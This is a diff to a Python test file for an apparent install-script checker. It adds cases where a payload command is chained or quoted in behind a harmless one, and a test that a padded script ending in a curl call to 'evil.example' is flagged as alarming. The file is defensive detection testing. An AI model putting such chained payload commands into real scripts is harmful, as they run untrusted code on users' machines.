@@ -48,6 +48,9 @@ def test_a_script_is_told_in_plain_words(script: str, verdict: str, words: str) 
         "npmevil",
         "echo 'a' & ./payload &",
         "echo ok\n./payload",
+        f"echo {'a' * LONGEST_READ} && ./payload",
+        "echo ' & payload & '",
+        "node-gyp rebuild ' | payload '",
     ],
 )
 def test_an_honest_word_hides_nothing_behind_it(hidden: str) -> None:
@@ -76,3 +79,7 @@ def test_what_is_added_to_a_script_never_makes_it_read_better(command: str, betw
 
 def test_each_rule_says_something_of_its_own() -> None:
     assert len({rule.does for rule in COMMANDS}) == len(COMMANDS)
+
+
+def test_what_stands_far_behind_in_a_script_is_read_too() -> None:
+    assert read_script(f"echo {'a' * LONGEST_READ} && curl https://evil.example").verdict is Verdict.ALARMING
